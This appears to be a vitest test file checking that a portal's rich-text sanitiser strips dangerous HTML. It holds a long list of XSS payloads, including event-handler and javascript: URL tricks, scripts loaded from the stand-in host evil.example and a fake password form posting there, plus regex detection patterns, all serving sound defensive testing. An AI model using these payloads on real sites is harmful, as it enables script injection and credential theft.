import { describe, expect, test } from 'vitest'
import { isBlankRichText, sanitiseRichText } from '../../../src/server/content/sanitise.ts'

/** Ways to run a script, load something foreign or dress up as the portal. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`x` onerror=`alert(1)`>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="/\\evil.example/x">',
  '<img/src="/a.png"/onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div class="eq-modal" id="root">x</div>',
  '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<body onload=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p title="x" onmouseover="alert(1)">x</p>',
  '"><script>alert(1)</script>',
  `${'<b>'.repeat(5000)}x`,
  '<a name="getElementById">x</a>',
]

const FORBIDDEN = [
  /<\s*(script|style|svg|math|iframe|object|embed|form|input|button|base|meta|link|video|template|textarea|noscript|body|details)\b/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*\s(style|class|id|name|srcdoc|action)\s*=/i,
  /(href|src)\s*=\s*"?\s*(javascript|vbscript|data):/i,
  /(href|src)\s*=\s*"[/\\]{2}/i,
  /src="https?:/i,
]

describe('rich text', () => {
  test.each(HOSTILE)('is harmless: %j', (html) => {
    const clean = sanitiseRichText(html)
    for (const pattern of FORBIDDEN) expect(clean).not.toMatch(pattern)
    expect(sanitiseRichText(clean)).toBe(clean)
  })

  test.each([
    ['<p>正文 <strong>粗</strong></p>', '<p>正文 <strong>粗</strong></p>'],
    [
      '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
      '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    ],
    ['<img src="/file/1" alt="图" />', '<img src="/file/1" alt="图" />'],
    ['<a href="#/threePage?id=1">内</a>', '<a href="#/threePage?id=1">内</a>'],
    [
      '<a href="https://example.org/">外</a>',
      '<a href="https://example.org/" rel="noopener noreferrer nofollow" target="_blank">外</a>',
    ],
    ['流量 < 3000 & 扬程 > 8', '流量 &lt; 3000 &amp; 扬程 &gt; 8'],
  ])('keeps what is allowed: %j', (html, expected) => {
    expect(sanitiseRichText(html)).toBe(expected)
  })

  test.each([
    ['<p>&nbsp;</p><br />', true],
    ['<p>字</p>', false],
    ['<img src="/file/1" />', false],
  ])('%j is blank: %s', (html, expected) => {
    expect(isBlankRichText(html)).toBe(expected)
  })
})
